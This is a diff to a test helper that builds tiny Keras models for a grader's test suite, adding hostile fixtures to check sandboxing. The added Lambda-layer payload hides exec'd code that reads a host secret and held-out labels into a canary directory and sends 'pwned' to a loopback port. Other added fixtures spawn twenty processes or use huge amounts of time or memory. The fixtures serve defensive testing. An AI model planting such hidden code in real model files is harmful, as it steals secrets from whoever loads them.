@@ -1,6 +1,6 @@
 """Build the tiny real models the tests grade. Run in a subprocess by the session fixture:
 
-    python tests/build_models.py OUT_DIR HELDOUT.npz
+    python tests/build_models.py OUT_DIR HELDOUT.npz CANARY_DIR SECRET PORT
 
 so that the test process itself never imports TensorFlow (tests assert that grading does not).
 Writes OUT_DIR/<name>.h5 and OUT_DIR/models.json (what Keras itself says about each model).
@@ -17,8 +17,39 @@ import numpy as np
 
 os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
 
+# What a hostile Lambda tries each time it runs: leave a canary file on the host, copy a host secret
+# and the held-out labels into it, and reach a listener on the host's loopback. Each step is guarded,
+# so one failing does not stop the next. The Lambda then zeroes its input, so a model whose payload
+# ran predicts one class for every image: proof that it ran, wherever it ran.
+PAYLOAD = """
+import pathlib, socket
+def attempt(step):
+    try:
+        step()
+    except Exception:
+        pass
+canary = pathlib.Path({canary!r})
+attempt(lambda: canary.mkdir(parents=True, exist_ok=True))
+attempt(lambda: (canary / "lambda-ran-on-host").write_text("ran"))
+attempt(lambda: (canary / "secret-read").write_text(open({secret!r}).read()))
+attempt(lambda: (canary / "labels-read").write_bytes(open({labels!r}, "rb").read()))
+attempt(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned"))
+"""
+# Starts twenty processes: the process budget must stop it.
+SPAWNER = """
+import subprocess
+for _ in range(20):
+    subprocess.Popen(["sleep", "30"])
+"""
 
-def main(out: Path, heldout: Path) -> None:
+
+def code_lambda(code: str, zero: bool):  # type: ignore[no-untyped-def]
+    """A lambda whose code object carries `code` as a constant, as a student's Lambda layer would."""
+    result = "t * 0.0" if zero else "t"
+    return eval(f"lambda t: (exec({code!r}, {{}}), {result})[1]")  # noqa: S307 (building the hostile fixture)
+
+
+def main(out: Path, heldout: Path, canary: Path, secret: Path, port: int) -> None:
     import keras
     from keras import layers
 
@@ -33,6 +64,7 @@ def main(out: Path, heldout: Path) -> None:
         model.fit(inputs, y, epochs=epochs, batch_size=64, verbose=0)
         return model
 
+    payload = PAYLOAD.format(canary=str(canary), secret=str(secret), labels=str(heldout), port=port)
     models = {
         "mlp": fit(keras.Sequential([keras.Input((784,)), layers.Dense(32, activation="relu"),
                                      layers.Dense(10, activation="softmax")]), flat),
@@ -51,7 +83,21 @@ def main(out: Path, heldout: Path) -> None:
         "rgb32": keras.Sequential([keras.Input((32, 32, 3)), layers.Conv2D(2, 3), layers.Flatten(),
                                    layers.Dense(10, activation="softmax")]),
         "nan": keras.Sequential([keras.Input((784,)), layers.Dense(10, activation="softmax")]),
+        # Passes every static check, then computes for minutes: 224x224 feature maps for 3,000 images.
+        "slow": keras.Sequential([keras.Input((28, 28, 1)), layers.UpSampling2D((8, 8)),
+                                  *[layers.Conv2D(32, 3, padding="same") for _ in range(6)],
+                                  layers.GlobalAveragePooling2D(), layers.Dense(10, activation="softmax")]),
+        # Passes every static check, then needs gigabytes: 448x448x128 activations per image.
+        "memory_hog": keras.Sequential([keras.Input((28, 28, 1)), layers.UpSampling2D((16, 16)),
+                                        layers.Conv2D(128, 3, padding="same"), layers.GlobalMaxPooling2D(),
+                                        layers.Dense(10, activation="softmax")]),
+        "payload": keras.Sequential([keras.Input((784,)), layers.Lambda(code_lambda(payload, zero=True)),
+                                     layers.Dense(10, activation="softmax")]),
+        "spawner": keras.Sequential([keras.Input((784,)), layers.Lambda(code_lambda(SPAWNER, zero=False)),
+                                     layers.Dense(10, activation="softmax")]),
     }
+    linear = fit(keras.Sequential([keras.Input((784,)), layers.Dense(10, activation="softmax")]), flat)
+    models["payload"].layers[-1].set_weights(linear.layers[-1].get_weights())
     nan_layer = models["nan"].layers[-1]
     kernel, bias = nan_layer.get_weights()
     kernel[:, 3] = np.nan  # every image gets a NaN score for class 3
@@ -72,4 +118,4 @@ def main(out: Path, heldout: Path) -> None:
 
 
 if __name__ == "__main__":
-    main(Path(sys.argv[1]), Path(sys.argv[2]))
+    main(Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]), Path(sys.argv[4]), int(sys.argv[5]))
